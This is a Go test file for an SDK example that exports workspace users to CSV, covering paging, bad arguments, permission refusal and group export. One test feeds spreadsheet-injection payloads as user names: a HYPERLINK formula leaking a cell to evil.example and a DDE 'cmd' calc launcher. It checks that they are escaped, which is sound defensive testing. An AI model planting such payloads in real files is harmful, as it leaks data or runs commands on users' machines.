package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/coolset-go/sdk/accounts"
	"github.com/coolset-go/sdk/accounts/accountstest"
	"github.com/coolset-go/sdk/examples/internal/exampleclient"
	"github.com/coolset-go/sdk/examples/internal/exampletest"
)

func TestMain(m *testing.M) { exampletest.Main(m, main) }

// expectedRows renders the users of workspace 1 of a fresh default server, the
// owner's active workspace and so what run exports, as the limit/offset list
// answers them: no uuid, no is_active, no groups list.
func expectedRows(t *testing.T) [][]string {
	t.Helper()
	srv := accountstest.NewServer()
	defer srv.Close()
	var rows [][]string
	for _, u := range srv.UsersOfWorkspace(1) {
		rows = append(rows, []string{strconv.Itoa(u.ID), "", u.Email, u.FirstName, u.LastName, u.JobTitle, strconv.Itoa(u.Groups[0]), "", ""})
	}
	if len(rows) < 200 {
		t.Fatalf("the test server has only %d users in workspace 1; the test expects several pages", len(rows))
	}
	return rows
}

func TestExportUsers(t *testing.T) {
	want := expectedRows(t)
	for _, args := range [][]string{nil, {"-page-size", "7"}, {"-page-size", "1000"}} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			t.Setenv(accounts.EnvAPIKey, "")
			var out, errOut bytes.Buffer
			if err := run(context.Background(), args, &out, &errOut); err != nil {
				t.Fatal(err)
			}
			if !strings.HasPrefix(out.String(), "id,uuid,email,first_name,last_name,job_title,auth_group,is_active,groups\n") {
				t.Fatalf("header: %q", strings.SplitN(out.String(), "\n", 2)[0])
			}
			got, err := csv.NewReader(&out).ReadAll()
			if err != nil {
				t.Fatalf("output is not CSV: %v", err)
			}
			got = got[1:]
			if len(got) != len(want) {
				t.Errorf("%d rows, want %d", len(got), len(want))
			}
			if !slices.IsSortedFunc(got, func(a, b []string) int {
				x, _ := strconv.Atoi(a[0])
				y, _ := strconv.Atoi(b[0])
				return x - y
			}) {
				t.Error("ids are not in ascending order")
			}
			for i := range min(len(got), len(want)) {
				if !slices.Equal(got[i], want[i]) {
					t.Errorf("row %d = %q, want %q", i+1, got[i], want[i])
				}
			}
			stderr := errOut.String()
			for _, w := range []string{"using the in-memory test server", "... 100 users\n", "... 200 users\n", "exported " + strconv.Itoa(len(want)) + " users\n"} {
				if !strings.Contains(stderr, w) {
					t.Errorf("stderr lacks %q:\n%s", w, stderr)
				}
			}
		})
	}
}

func TestExportUsersRefusesBadArguments(t *testing.T) {
	t.Setenv(accounts.EnvAPIKey, "")
	for _, args := range [][]string{{"-page-size", "0"}, {"-page-size", "-3"}, {"-page-size", "x"}, {"extra"}} {
		var out, errOut bytes.Buffer
		err := run(context.Background(), args, &out, &errOut)
		var usageErr *exampleclient.UsageError
		if !errors.As(err, &usageErr) || out.Len() != 0 || errOut.Len() != 0 {
			t.Errorf("%q: err = %v, output %q, stderr %q", args, err, out.String(), errOut.String())
		}
	}
	exampletest.CheckCommandLine(t, "usage: export-users", "extra")
}

// TestExportUsersWritesNothingWhenRefused: a member lacks view_user, so the
// first request is refused with 403; standard output stays empty (no lone
// header) and the error is printed once.
func TestExportUsersWritesNothingWhenRefused(t *testing.T) {
	srv := accountstest.NewServer()
	defer srv.Close()
	res := exampletest.Run(t, "", []string{accounts.EnvAPIKey + "=" + accountstest.MemberToken, accounts.EnvBaseURL + "=" + srv.URL()})
	if res.Code != 1 || res.Stdout != "" || strings.Count(res.Stderr, "403 Forbidden") != 1 ||
		!strings.HasPrefix(res.Stderr, "using the API at "+srv.URL()) {
		t.Errorf("exit %d, stdout %q, stderr %q", res.Code, res.Stdout, res.Stderr)
	}
}

// TestExportUsersNoUsers: a walk that finds no user still writes the header.
func TestExportUsersNoUsers(t *testing.T) {
	if rows := exportFrom(t, func(*http.Request) string { return `[]` }); len(rows) != 0 {
		t.Errorf("rows = %q", rows)
	}
}

// exportFrom runs the program against a server that answers every user list
// request with body, and returns the CSV's rows after the header.
func exportFrom(t *testing.T, body func(r *http.Request) string) [][]string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodGet || r.URL.Path != "/api/accounts/users/" {
			t.Errorf("unexpected request %s %s", r.Method, r.URL)
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.Write([]byte(body(r)))
	}))
	defer srv.Close()
	t.Setenv(accounts.EnvAPIKey, "test-key")
	t.Setenv(accounts.EnvBaseURL, srv.URL+"/api/")
	var out, errOut bytes.Buffer
	if err := run(context.Background(), nil, &out, &errOut); err != nil {
		t.Fatalf("%v\n%s", err, errOut.String())
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v", err)
	}
	if !slices.Equal(rows[0], header) {
		t.Fatalf("header = %q", rows[0])
	}
	return rows[1:]
}

// TestExportUsersNeutralisesFormulas serves users whose names would run as
// spreadsheet formulas (the workspace-centric shape, a bare array).
func TestExportUsersNeutralisesFormulas(t *testing.T) {
	rows := exportFrom(t, func(r *http.Request) string {
		if off := r.URL.Query().Get("offset"); off != "" && off != "0" {
			return `[]`
		}
		return `[
 {"id":1,"email":"a@x.co","first_name":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")","last_name":"+1+cmd|' /C calc'!A0","job_title":"-2+3","auth_group":{"id":3,"name":"MEMBER","permissions":[]}},
 {"id":2,"email":"@b@x.co","first_name":"@SUM(1+1)","last_name":"\tTab","job_title":"\r=1+1","auth_group":null},
 {"id":3,"email":"c@x.co","first_name":"Ana = Bob","last_name":"O'Neil","job_title":" -lead","auth_group":{"id":2,"name":"ADMIN","permissions":[]}}
]`
	})
	want := [][]string{
		{"1", "", "a@x.co", `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+1+cmd|' /C calc'!A0", "'-2+3", "3", "", ""},
		{"2", "", "'@b@x.co", "'@SUM(1+1)", "'\tTab", "'\r=1+1", "", "", ""},
		// Only the first character counts; a leading space is not a formula.
		{"3", "", "c@x.co", "Ana = Bob", "O'Neil", " -lead", "2", "", ""},
	}
	checkRows(t, rows, want)
}

// TestExportUsersWritesEveryGroup serves the organization-centric shape (an
// envelope, groups as ids): every group is exported, not only the first.
func TestExportUsersWritesEveryGroup(t *testing.T) {
	rows := exportFrom(t, func(*http.Request) string {
		return `{"count":3,"next":null,"previous":null,"results":[
 {"id":1,"uuid":"497f6eca-6276-4993-bfeb-53cbbbba6f08","email":"a@x.co","first_name":"A","last_name":"B","groups":[2,3],"is_active":false},
 {"id":2,"uuid":"597f6eca-6276-4993-bfeb-53cbbbba6f08","email":"b@x.co","first_name":"C","last_name":"D","groups":[3],"is_active":true},
 {"id":3,"uuid":"697f6eca-6276-4993-bfeb-53cbbbba6f08","email":"c@x.co","first_name":"E","last_name":"F","groups":[],"is_active":true}]}`
	})
	want := [][]string{
		{"1", "497f6eca-6276-4993-bfeb-53cbbbba6f08", "a@x.co", "A", "B", "", "", "false", "2 3"},
		{"2", "597f6eca-6276-4993-bfeb-53cbbbba6f08", "b@x.co", "C", "D", "", "", "true", "3"},
		{"3", "697f6eca-6276-4993-bfeb-53cbbbba6f08", "c@x.co", "E", "F", "", "", "true", ""},
	}
	checkRows(t, rows, want)
}

// checkRows compares exported CSV records, row by row.
func checkRows(t *testing.T, rows, want [][]string) {
	t.Helper()
	if len(rows) != len(want) {
		t.Fatalf("rows = %q", rows)
	}
	for i := range want {
		if !slices.Equal(rows[i], want[i]) {
			t.Errorf("row %d = %q\nwant     %q", i+1, rows[i], want[i])
		}
	}
}
